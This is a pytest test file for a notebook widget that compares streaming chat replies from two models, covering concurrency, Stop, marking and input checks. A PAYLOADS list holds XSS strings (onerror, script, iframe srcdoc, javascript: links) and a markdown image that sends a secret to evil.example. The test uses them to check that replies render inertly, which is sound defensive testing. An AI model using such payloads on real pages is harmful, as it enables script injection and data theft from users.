"""ComparePanel headless: concurrent streams, results, Stop, the mark, inert markup."""

from __future__ import annotations

import asyncio
import datetime as dt
import math
import threading
import time

import pandas as pd
import pytest
from _fakes import ScriptedChatClient
from _html import html_values, live_markup, parse

import lcoai_notebook.widgets as lw
from lcoai_notebook._exceptions import BadRequestError
from lcoai_notebook._pricing import chat_cost
from lcoai_notebook.emulator import Emulator
from lcoai_notebook.widgets.compare import COLUMNS, ComparePanel

TODAY = dt.date(2026, 12, 1)
MODELS = ["gpt-5.4-mini", "gpt-4.1-mini"]  # the first has no price in the table, the second has
PAYLOADS = [
    '<img src=x onerror="window.__xss1=1">',
    "<script>window.__xss2=1</script>",
    '<iframe srcdoc="<script>parent.__xss3=1</script>"></iframe>',
    "[click me](javascript:window.__xss5=1)",
    "![exfil](https://evil.example/?d=secret)",
]


@pytest.fixture(scope="module")
def emu() -> Emulator:
    return Emulator()


def _make(kind: str, emu: Emulator):
    return emu.client() if kind == "sync" else emu.async_client()


def _expected(emu: Emulator, model: str, prompt: str, **params):
    return emu.client().chat.completions.create(
        model=model, messages=[{"role": "user", "content": prompt}], **params)


@pytest.mark.parametrize("kind", ["sync", "async"])
def test_both_models_answer_and_the_frame_holds_both_rows(kind: str, emu: Emulator) -> None:
    panel = ComparePanel(models=MODELS, client=_make(kind, emu), today=TODAY)
    prompt = "Explain cosine similarity in two sentences."
    frame = panel.compare(prompt, seed=7)
    assert isinstance(frame, pd.DataFrame)
    assert list(frame.columns) == list(COLUMNS)
    assert list(frame["model"]) == MODELS
    for row in frame.itertuples():
        want = _expected(emu, row.model, prompt, seed=7)
        assert row.reply == want.choices[0].message.content
        assert row.prompt_tokens == want.usage.prompt_tokens
        assert row.completion_tokens == want.usage.completion_tokens
        assert row.tokens == want.usage.total_tokens
        assert row.seconds > 0 and not row.stopped
    # Cost: none for the model without a table price (never guessed), the table's for the other.
    assert math.isnan(frame["cost"][0])
    usage = _expected(emu, "gpt-4.1-mini", prompt, seed=7).usage
    assert frame["cost"][1] == pytest.approx(chat_cost("gpt-4.1-mini", usage))
    assert frame["cost"][1] == pytest.approx(
        (usage.prompt_tokens * 0.4 + usage.completion_tokens * 1.6) / 1e6)
    # The page: each column shows its model, its reply's words and its figures.
    for column, row in zip(panel._columns, frame.itertuples(), strict=True):
        assert row.model in column.header.value
        assert row.reply.split()[0] in "".join(parse(column.reply.value).text)
        stats = "".join(parse(column.stats.value).text)
        assert f"{row.tokens:,} tokens" in stats and " s" in stats
    assert "no price known" in panel._columns[0].stats.value
    assert "$" in panel._columns[1].stats.value
    assert panel.usage["total_tokens"] == int(frame["tokens"].sum())
    assert not panel.busy and panel.error == ""
    assert panel.results.equals(frame)


@pytest.mark.parametrize("kind", ["sync", "async"])
def test_models_stream_concurrently(kind: str) -> None:
    latency = 0.4
    slow = Emulator(latency=latency)
    panel = ComparePanel(models=MODELS, client=_make(kind, slow), today=TODAY)
    panel.compare("warm up")  # first use starts the panels' loop and thread pool
    start = time.monotonic()
    frame = panel.compare("What is a vector?")
    elapsed = time.monotonic() - start
    # Each answer alone takes at least the latency; one after the other would take the sum.
    assert (frame["seconds"] >= latency).all()
    assert elapsed < 0.75 * frame["seconds"].sum(), (elapsed, list(frame["seconds"]))
    assert elapsed < 0.75 * 2 * latency + 0.1


def _stop_when_every_column_has_text(panel: ComparePanel) -> None:
    seen: set[str] = set()
    lock = threading.Lock()

    def watch(model: str):
        def observe(change) -> None:
            if "…" not in change["new"] and "stopped" not in change["new"]:
                with lock:
                    seen.add(model)
                    if len(seen) == len(panel.models):
                        panel.stop()
        return observe

    for column in panel._columns:
        column.reply.observe(watch(column.model), names="value")


@pytest.mark.parametrize("mode", ["twin", "gesture"])
def test_stop_stops_every_stream_and_keeps_partial_replies(mode: str) -> None:
    pieces = [f"word{i} " for i in range(400)]
    scripted = ScriptedChatClient(pieces, pause=0.002)
    panel = ComparePanel(models=MODELS, client=scripted, today=TODAY)
    _stop_when_every_column_has_text(panel)
    if mode == "twin":
        frame = panel.compare("Write a long story")
    else:
        async def gesture() -> None:
            panel.prompt.value = "Write a long story"
            panel.send_button.click()
            assert panel.busy and not panel.stop_button.disabled
            await panel.runner.task
        asyncio.run(gesture())
        frame = panel.results
    full = "".join(pieces)
    assert len(scripted.requests) == 2
    assert frame["stopped"].tolist() == [True, True]
    for reply in frame["reply"]:
        assert reply.startswith("word0 ") and full.startswith(reply) and len(reply) < len(full)
    for column in panel._columns:
        assert "stopped" in column.reply.value
    assert "Stopped" in panel._error_line.value
    assert not panel.busy and panel.stop_button.disabled and not panel.send_button.disabled


@pytest.mark.parametrize("kind", ["sync", "async"])
def test_stop_after_the_first_update_against_the_emulator(kind: str, emu: Emulator) -> None:
    panel = ComparePanel(models=MODELS, client=_make(kind, emu), today=TODAY)
    prompt = "List 40 facts about the ocean in long sentences."
    stopped_once = []

    def observe(change) -> None:
        if "…" not in change["new"] and not stopped_once:
            stopped_once.append(panel.stop())

    for column in panel._columns:
        column.reply.observe(observe, names="value")
    frame = panel.compare(prompt, seed=3)
    assert stopped_once == [True]
    assert frame["stopped"].tolist() == [True, True]
    for row in frame.itertuples():
        full = _expected(emu, row.model, prompt, seed=3).choices[0].message.content
        assert full.startswith(row.reply) and len(row.reply) < len(full)
        assert math.isnan(row.cost)  # stopped before the usage arrived


def test_mark_sets_the_better_column_and_a_new_comparison_clears_it(emu: Emulator) -> None:
    panel = ComparePanel(models=MODELS, client=emu.client(), today=TODAY)
    with pytest.raises(ValueError, match="compare the models first"):
        panel.mark("gpt-4.1-mini")
    panel.compare("Name a colour.")
    assert "better" not in panel.results.columns
    frame = panel.mark("gpt-4.1-mini")
    assert frame["better"].tolist() == [False, True] and panel.better == "gpt-4.1-mini"
    assert panel._columns[1].better.button_style == "success"
    # The gesture: the other column's button moves the mark.
    panel._columns[0].better.click()
    assert panel.results["better"].tolist() == [True, False]
    assert panel._columns[1].better.button_style == ""
    with pytest.raises(ValueError, match="gpt-5.4-mini, gpt-4.1-mini"):
        panel.mark("gpt-4o")
    panel.compare("Name another colour.")
    assert panel.better is None and "better" not in panel.results.columns
    assert panel.mark(None).columns.tolist() == list(COLUMNS)


def test_markup_in_replies_stays_inert() -> None:
    scripted = ScriptedChatClient(PAYLOADS)
    panel = ComparePanel(models=MODELS, client=scripted, today=TODAY)
    frame = panel.compare("Show me some HTML")
    assert frame["reply"].tolist() == ["".join(PAYLOADS)] * 2
    problems = [p for value in html_values(panel) for p in live_markup(value)]
    assert problems == []
    # The text is still shown, escaped.
    text = "".join("".join(parse(c.reply.value).text) for c in panel._columns)
    assert "<script>window.__xss2=1</script>" in text


def test_one_model_failing_keeps_the_other_reply(emu: Emulator) -> None:
    panel = ComparePanel(models=["gpt-4.1-mini", "gpt-9-imaginary"], client=emu.client(),
                         today=TODAY)
    frame = panel.compare("Hello")
    assert frame["reply"][0] and frame["error"][1].startswith("Not found (404)")
    assert "gpt-9-imaginary" in panel.error
    assert "Not found" in panel._columns[1].reply.value


@pytest.mark.parametrize("kind", ["sync", "async"])
def test_every_model_failing_raises_and_keeps_the_prompt(kind: str, emu: Emulator) -> None:
    opts = {"default_headers": {"X-Emulator-Fault": "status=400"}, "max_retries": 0}
    bad = emu.client(**opts) if kind == "sync" else emu.async_client(**opts)
    panel = ComparePanel(models=MODELS, client=bad, today=TODAY)
    with pytest.raises(BadRequestError):
        panel.compare("Hello")
    assert "(400)" in panel.error and "⚠" in panel._error_line.value

    async def gesture() -> None:
        panel.prompt.value = "Keep me"
        panel.prompt.submit()
        await panel.runner.task
    asyncio.run(gesture())
    assert panel.prompt.value == "Keep me" and panel.error


@pytest.mark.parametrize(("models", "error", "match"), [
    (["text-embedding-3-small", "gpt-4.1-mini"], ValueError, "not a chat model"),
    (["gpt-4.1-nano"], ValueError, "retired on 2026-10-23.*gpt-4.1-mini"),
    (["gpt-4.1-mini", "gpt-4.1-mini"], ValueError, "twice"),
    ([], ValueError, "at least one"),
    ("gpt-4.1-mini", TypeError, "list of model ids"),
    ([None], TypeError, "model id string"),
])
def test_models_are_checked_before_anything_is_sent(models, error, match) -> None:
    scripted = ScriptedChatClient(["x"])
    with pytest.raises(error, match=match):
        ComparePanel(models=models, client=scripted, today=TODAY)
    assert scripted.requests == []


def test_unknown_model_ids_pass_through() -> None:
    panel = ComparePanel(models=["my-local-llama", "gpt-4.1-mini"], client=ScriptedChatClient(
        ["ok"]), today=TODAY)
    assert panel.compare("hi")["reply"].tolist() == ["ok", "ok"]


@pytest.mark.parametrize(("kwargs", "match"), [
    ({"model": "gpt-4o"}, "sets model itself"),
    ({"temperature": 0.2}, "reasoning models \\(gpt-5.4-mini\\)"),
])
def test_bad_parameters_are_refused_before_sending(kwargs, match) -> None:
    scripted = ScriptedChatClient(["x"])
    panel = ComparePanel(models=MODELS, client=scripted, today=TODAY)
    with pytest.raises(ValueError, match=match):
        panel.compare("hi", **kwargs)
    with pytest.raises(ValueError, match="non-empty"):
        panel.compare("  ")
    assert scripted.requests == []


def test_system_and_params_reach_every_model() -> None:
    scripted = ScriptedChatClient(["ok"])
    panel = ComparePanel(models=["gpt-4.1-mini", "gpt-4o-mini"], client=scripted, today=TODAY)
    panel.compare("hi", system="Be brief.", temperature=0.0)
    assert sorted(r["model"] for r in scripted.requests) == ["gpt-4.1-mini", "gpt-4o-mini"]
    for request in scripted.requests:
        assert request["messages"] == [{"role": "system", "content": "Be brief."},
                                       {"role": "user", "content": "hi"}]
        assert request["temperature"] == 0.0 and request["stream"] is True


def test_lazy_name_and_text_repr(emu: Emulator) -> None:
    assert lw.ComparePanel is ComparePanel
    panel = ComparePanel(models=MODELS, client=emu.client(), today=TODAY)
    panel.compare("Name a fruit.")
    panel.mark("gpt-5.4-mini")
    text = panel._text_summary()
    assert text.splitlines()[0] == "ComparePanel · gpt-5.4-mini vs gpt-4.1-mini"
    assert "prompt: Name a fruit." in text and "better" in text.splitlines()[2]
    assert repr(panel).startswith("<ComparePanel: ComparePanel · gpt-5.4-mini")
